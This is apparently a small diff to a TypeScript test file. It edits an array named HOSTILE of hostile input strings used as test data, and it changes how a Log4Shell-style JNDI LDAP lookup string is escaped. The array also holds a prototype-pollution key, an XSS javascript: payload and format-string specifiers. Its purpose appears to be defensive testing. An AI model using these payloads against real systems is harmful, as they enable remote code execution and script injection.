@@ -26,7 +26,7 @@ const HOSTILE = [
   '__proto__',
   '{"ConsoleLogin":"Success"}',
   '"><a href="javascript:alert(1)">',
-  '%s%n${jndi:ldap://example.net}',
+  '%s%n$\u007bjndi:ldap://example.net}',
 ];
 
 const BASES: readonly RecordFields[] = [
